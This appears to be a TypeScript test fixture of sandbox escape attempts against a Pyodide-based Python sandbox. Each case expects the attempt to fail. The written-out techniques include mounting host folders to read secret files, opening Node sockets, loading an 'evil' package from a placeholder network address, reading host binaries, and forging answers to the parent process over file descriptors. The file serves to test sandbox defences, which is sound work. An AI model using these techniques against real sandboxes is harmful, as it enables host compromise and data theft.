import { type Attempt, inside } from "./attempt.fixture.ts";

/** Against the wall around JavaScript, of which nothing can be reached, and around the channel to the parent. */
export const javascript: readonly Attempt[] = [
  {
    what: "the Pyodide API by the garbage collector",
    code: `${inside}\n"runPython" in dir(api)`,
    result: /^False$/m,
  },
  {
    what: "`process`, `fetch`, `require` of the global object",
    code: `${inside}\n[n for n in ("process", "fetch", "require") if hasattr(js, n)]`,
    result: /^\[\]$/m,
  },
  {
    what: "JavaScript from a string",
    code: `${inside}\nFunction("return process")()`,
    result: /Error/,
  },
  {
    what: "asynchronous JavaScript from a string",
    code: `${inside}\napi.runPythonAsync.constructor("return 1")()`,
    result: /Error/,
  },
  {
    what: "Pyodide imported again",
    code: `${inside}\nimport sys\nsys.meta_path.pop(0)\nimport _pyodide_core\n_pyodide_core.to_js([]).constructor.constructor("return process")()`,
    result: /Error/,
  },
  {
    what: "the host's folders by NODEFS",
    code:
      `${inside}\noptions = Object()\noptions.root = "FOLDER"\napi.FS.mkdir("/host")\n` +
      `api.FS.mount(api.FS.filesystems.NODEFS, options, "/host")\nimport os\nprint(os.listdir("/host"))\nopen("/host/secret.txt").read()`,
    result: /Error/,
  },
  {
    what: "the host's folders by `mountNodeFS`",
    code: `${inside}\napi.mountNodeFS("/host2", "FOLDER")\nimport os\nprint(os.listdir("/host2"))`,
    result: /Error/,
  },
  {
    what: "writing by `mountNodeFS`",
    code: `${inside}\napi.mountNodeFS("/host3", "FOLDER")\nopen("/host3/written.txt", "w").write("x")`,
    result: /Error/,
  },
  {
    what: "sockets of Node",
    code: `${inside}\napi.useNodeSockFS()\nimport socket\nsocket.create_connection(("127.0.0.1", PORT), timeout=2).send(b"GET /sock HTTP/1.0\\r\\n\\r\\n")`,
    result: /Error/,
  },
  {
    what: "`loadPackage` from the network",
    code: `${inside}\napi.loadPackage("http://ADDRESS/evil-1.0-py3-none-any.whl")`,
    result: /Error/,
  },
  {
    what: "a library of the host by `loadDynlib`",
    code: `${inside}\napi._api.loadDynlib("SECRET")`,
    result: /Error/,
  },
  {
    what: "a file of the host by `loadBinaryFile`",
    code: `${inside}\nstr(api._api.loadBinaryFile("SECRET"))`,
    result: /Error/,
  },
  {
    what: "a file of the host by the module's reader",
    code: `${inside}\nstr(api._module.readAsync("SECRET"))`,
    result: /Error/,
  },
  {
    what: "`unpackArchive` over the host",
    code: `${inside}\napi.unpackArchive(b"", "zip")`,
    result: /Error/,
  },
  {
    what: "the channel to the parent",
    code: `${inside}\napi._module.process`,
    result: /Error/,
  },
  {
    what: "the runtime's bridge to the host's files, `NODEFS`",
    code: `${inside}\napi.FS.filesystems.NODEFS`,
    result: /Error/,
  },
  {
    what: "the runtime's bridge to the host's sockets, `useNodeSockFS`",
    code: `${inside}\napi._api.useNodeSockFS`,
    result: /Error/,
  },
  {
    what: "a forged answer, written to every file descriptor",
    code: `import os, json, struct
answer = {"id": 0, "kind": "", "text": "", "output": "forged", "droppedBytes": 0, "memoryBytes": 0}
body = json.dumps(answer).encode()
wrote = []
for fd in range(3, 64):
    try:
        os.write(fd, struct.pack(">I", len(body)) + body)
        wrote.append(fd)
    except OSError:
        pass
print(wrote)`,
    result: /^\[\]$/m,
  },
  {
    what: "JavaScript's own functions replaced",
    code: `${inside}\nObject.getPrototypeOf(api.FS.streams).push = print`,
    result: /Error/,
  },
  { what: "Pyodide's own `_exit`", code: `${inside}\napi._module._exit(0)`, result: /Error/ },
  {
    what: "a getter on `Object.prototype` that captures `this`",
    code:
      `${inside}\nimport _pyodide_core as core\nd = Object.new()\nd.get = core.create_proxy(print, capture_this=True)\n` +
      'Object.defineProperty(Object.prototype, "devicePixelRatio", d)\napi._module._emscripten_get_device_pixel_ratio()',
    result: /Error/,
  },
  {
    what: "Node's pool of buffers",
    code: `${inside}\njs.Buffer["from"]("zz").buffer.to_py()`,
    result: /Error/,
  },
  {
    what: "the stream below `console`",
    code: `${inside}\nout = js.console._stdout\nout.fd = 4\nout.write("forged")`,
    result: /Error/,
  },
];
